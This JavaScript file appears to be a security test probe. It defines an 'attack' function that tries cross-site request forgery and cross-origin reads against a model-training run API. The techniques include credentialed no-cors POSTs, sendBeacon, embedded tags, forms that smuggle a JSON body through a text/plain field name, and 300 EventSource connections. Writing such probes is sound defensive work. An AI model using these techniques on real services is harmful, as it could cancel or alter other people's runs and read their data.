/** Everything that a page may try on another server, in the page of a stranger; gives what it could read. */
globalThis.attack = async function attack({ target, run }) {
  const read = [];
  const body = JSON.stringify({ name: 'theirs', model: 'clip-tiny', dataset: 'scenes' });
  const posts = [`/v1/runs/${run}/cancel`, '/v1/runs', '/v1/runs/plan', '/v1/datasets', '/v1/models'];
  const types = ['text/plain', 'application/x-www-form-urlencoded', 'application/json'];
  const attempts = [];
  const ask = (path, init) =>
    fetch(`${target}${path}`, { credentials: 'include', ...init }).then(async (answer) => {
      const text = await answer.text();
      if (answer.ok && text.includes(run)) read.push(`${init.method ?? 'GET'} ${path} ${init.mode ?? ''}`);
    });
  for (const path of posts)
    for (const type of types)
      for (const mode of ['no-cors', 'cors'])
        attempts.push(ask(path, { method: 'POST', mode, body, headers: { 'content-type': type } }));
  for (const path of posts) attempts.push(Promise.resolve(navigator.sendBeacon(`${target}${path}`, body)));
  for (const method of ['DELETE', 'PUT', 'PATCH']) attempts.push(ask(`/v1/runs/${run}`, { method }));
  for (const path of ['/v1/runs', `/v1/runs/${run}`, '/v1/workers', '/metrics', '/openapi.json'])
    for (const mode of ['no-cors', 'cors', 'same-origin']) attempts.push(ask(path, { mode }));
  const element = (tag, path) =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.onload = () => {
        if (tag === 'img' || tag === 'script') read.push(`<${tag}> ${path}`);
        try {
          const inner = made.contentDocument?.body?.textContent ?? '';
          if (inner.includes(run)) read.push(`<${tag}> ${path}`);
        } catch {
          // Another origin's frame cannot be looked into.
        }
        resolve();
      };
      made.onerror = () => resolve();
      made.src = `${target}${path}`;
      document.body.append(made);
      setTimeout(resolve, 3000);
    });
  for (const path of ['/v1/runs', '/status.svg', '/status.js', '/'])
    for (const tag of ['img', 'script', 'iframe', 'embed']) attempts.push(element(tag, path));
  // A form needs no permission of anybody, and its answer goes into a frame.
  for (const path of posts)
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const frame = document.createElement('iframe');
      frame.name = `frame-${attempts.length}`;
      const form = document.createElement('form');
      const field = document.createElement('input');
      Object.assign(field, { name: `${body.slice(0, -1)},"x":"`, value: '"}' });
      Object.assign(form, { method: 'POST', action: `${target}${path}`, enctype, target: frame.name });
      form.append(field);
      document.body.append(frame, form);
      form.submit();
      attempts.push(new Promise((resolve) => setTimeout(resolve, 500)));
    }
  for (let i = 0; i < 300; i += 1) {
    const stream = new EventSource(`${target}/v1/runs/${run}/events`, { withCredentials: true });
    stream.onmessage = () => read.push('event stream');
  }
  await Promise.allSettled(attempts);
  return [...new Set(read)];
};
